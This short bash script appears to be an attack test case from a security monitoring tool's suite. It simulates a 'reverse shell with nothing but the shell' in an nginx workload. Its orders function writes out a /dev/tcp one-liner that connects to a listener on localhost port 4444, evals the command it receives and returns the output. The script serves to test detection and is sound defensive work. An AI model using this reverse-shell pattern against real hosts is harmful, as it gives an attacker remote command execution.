#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
# A reverse shell with nothing but the shell.
# workload: nginx
# orders: orders
# program: /usr/bin/bash
# deed: socket_create
# object: an IPv4 socket of type stream

# shellcheck source=tests/attacks/lib.sh
. "${0%/*}/lib.sh"
prepare() { mkdir -p $own; echo 'echo hijacked-$((6 * 7))' >$own/say; listen 4444; }
orders() { echo 'exec 3<>/dev/tcp/127.0.0.1/4444 && read -r -t 5 -u 3 line && eval "$line" >&3'; }
proof() { got hijacked-42; }
clean() { away; }
main "$@"
